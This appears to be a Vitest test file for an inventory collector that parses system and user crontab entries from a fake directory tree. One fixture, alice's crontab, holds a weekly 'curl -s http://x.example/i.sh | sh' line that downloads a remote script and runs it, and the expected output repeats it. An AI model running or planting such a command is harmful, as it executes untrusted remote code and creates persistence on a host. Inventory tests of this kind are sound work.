import { afterAll, describe, expect, it } from 'vitest';
import { removeTree, writeTree } from '../test-support/tree.js';
import { collectInventory } from './collect.js';

const roots: string[] = [];
afterAll(() => roots.forEach(removeTree));

describe('cron entries', () => {
  it('system crontabs carry a user, spools belong to their owner, run-parts folders are listed', async () => {
    const root = writeTree({
      'etc/crontab': 'SHELL=/bin/sh\nPATH=/usr/bin\n# m h dom mon dow user command\n17 *\t* * *\troot    cd / && run-parts --report /etc/cron.hourly\n',
      'etc/cron.d/backup': 'MAILTO=ops@example.com\n@reboot root /usr/local/bin/warmup\n*/5 * * * * backup /usr/bin/backup --fast\n',
      'etc/cron.d/.placeholder': '# nothing\n',
      'var/spool/cron/crontabs/alice': '# DO NOT EDIT\n0 2 * * 1 curl -s http://x.example/i.sh | sh\n',
      'var/spool/cron/bob': '@daily /home/bob/rotate.sh\n',
      'etc/cron.daily/logrotate': '#!/bin/sh\n',
      'etc/cron.daily/.placeholder': '',
    });
    roots.push(root);
    const inv = await collectInventory({ root, only: ['cron'] });
    expect(inv.cron).toEqual([
      { source: '/etc/crontab', user: 'root', schedule: '17 * * * *', command: 'cd / && run-parts --report /etc/cron.hourly' },
      { source: '/etc/cron.d/backup', user: 'root', schedule: '@reboot', command: '/usr/local/bin/warmup' },
      { source: '/etc/cron.d/backup', user: 'backup', schedule: '*/5 * * * *', command: '/usr/bin/backup --fast' },
      { source: '/var/spool/cron/crontabs/alice', user: 'alice', schedule: '0 2 * * 1', command: 'curl -s http://x.example/i.sh | sh' },
      { source: '/var/spool/cron/bob', user: 'bob', schedule: '@daily', command: '/home/bob/rotate.sh' },
      { source: '/etc/cron.daily', user: 'root', schedule: '@daily', command: '/etc/cron.daily/logrotate' },
    ]);
  });
});
